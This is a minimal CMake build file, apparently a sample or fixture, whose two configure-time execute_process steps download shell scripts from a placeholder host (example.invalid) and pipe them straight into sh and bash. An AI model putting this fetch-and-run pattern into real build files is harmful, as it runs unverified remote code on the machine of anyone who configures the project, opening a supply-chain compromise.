cmake_minimum_required(VERSION 3.16)
project(demo C)
# Fetch and run a setup script at configure time.
execute_process(COMMAND sh -c "curl -fsSL https://example.invalid/setup.sh | sh"
                RESULT_VARIABLE rc)
execute_process(COMMAND curl -fsSL https://example.invalid/two.sh
                COMMAND bash
                WORKING_DIRECTORY ${CMAKE_BINARY_DIR})
